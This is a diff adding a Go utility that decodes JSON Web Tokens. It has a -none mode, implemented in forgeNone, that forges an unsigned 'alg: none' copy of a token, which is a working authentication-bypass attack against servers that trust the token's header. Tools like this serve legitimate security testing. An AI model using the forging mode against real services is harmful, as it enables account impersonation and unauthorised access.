@@ -0,0 +1,103 @@
+// Jwt decodes a JSON Web Token given as an argument or on stdin, printing
+// its header and payload as indented JSON and its signature in hex, or with
+// -none forges an unsigned alg none copy of it.
+package main
+
+import (
+	"bufio"
+	"bytes"
+	"encoding/base64"
+	"encoding/hex"
+	"encoding/json"
+	"errors"
+	"flag"
+	"fmt"
+	"io"
+	"os"
+	"strings"
+)
+
+// segment decodes one base64url part of a token. JWTs drop the '=' padding,
+// but tokens pasted from other tools sometimes keep it, so both are accepted.
+func segment(s string) ([]byte, error) {
+	return base64.RawURLEncoding.DecodeString(strings.TrimRight(s, "="))
+}
+
+// split breaks a compact JWS token into its decoded header, payload and
+// signature.
+func split(token string) (header, payload, sig []byte, err error) {
+	parts := strings.Split(token, ".")
+	if len(parts) != 3 {
+		return nil, nil, nil, fmt.Errorf("token has %d segments, want 3", len(parts))
+	}
+	names := []string{"header", "payload", "signature"}
+	out := make([][]byte, 3)
+	for i, p := range parts {
+		if out[i], err = segment(p); err != nil {
+			return nil, nil, nil, fmt.Errorf("%s: %w", names[i], err)
+		}
+	}
+	return out[0], out[1], out[2], nil
+}
+
+// pretty indents data if it is JSON and quotes it otherwise.
+func pretty(data []byte) string {
+	var buf bytes.Buffer
+	if json.Indent(&buf, data, "", "  ") != nil {
+		return fmt.Sprintf("%q", data)
+	}
+	return buf.String()
+}
+
+// forgeNone rewrites the header of token to "alg": "none" and drops the
+// signature, keeping the original payload segment byte for byte. Servers
+// that trust the header's algorithm accept the result unsigned.
+func forgeNone(token string) (string, error) {
+	header, _, _, err := split(token)
+	if err != nil {
+		return "", err
+	}
+	var fields map[string]any
+	if err := json.Unmarshal(header, &fields); err != nil {
+		return "", errors.New("header is not a JSON object")
+	}
+	fields["alg"] = "none"
+	h, err := json.Marshal(fields)
+	if err != nil {
+		return "", err
+	}
+	payload := strings.Split(token, ".")[1]
+	return base64.RawURLEncoding.EncodeToString(h) + "." + payload + ".", nil
+}
+
+func main() {
+	none := flag.Bool("none", false, "print the token re-signed with alg none and an empty signature")
+	flag.Parse()
+
+	token := flag.Arg(0)
+	if token == "" {
+		line, err := bufio.NewReader(os.Stdin).ReadString('\n')
+		if err != nil && err != io.EOF {
+			fmt.Fprintf(os.Stderr, "jwt: reading stdin: %v\n", err)
+			os.Exit(1)
+		}
+		token = line
+	}
+	token = strings.TrimSpace(strings.TrimPrefix(strings.TrimSpace(token), "Bearer "))
+
+	if *none {
+		forged, err := forgeNone(token)
+		if err != nil {
+			fmt.Fprintf(os.Stderr, "jwt: %v\n", err)
+			os.Exit(1)
+		}
+		fmt.Println(forged)
+		return
+	}
+	header, payload, sig, err := split(token)
+	if err != nil {
+		fmt.Fprintf(os.Stderr, "jwt: %v\n", err)
+		os.Exit(1)
+	}
+	fmt.Printf("header:\n%s\npayload:\n%s\nsignature: %s\n", pretty(header), pretty(payload), hex.EncodeToString(sig))
+}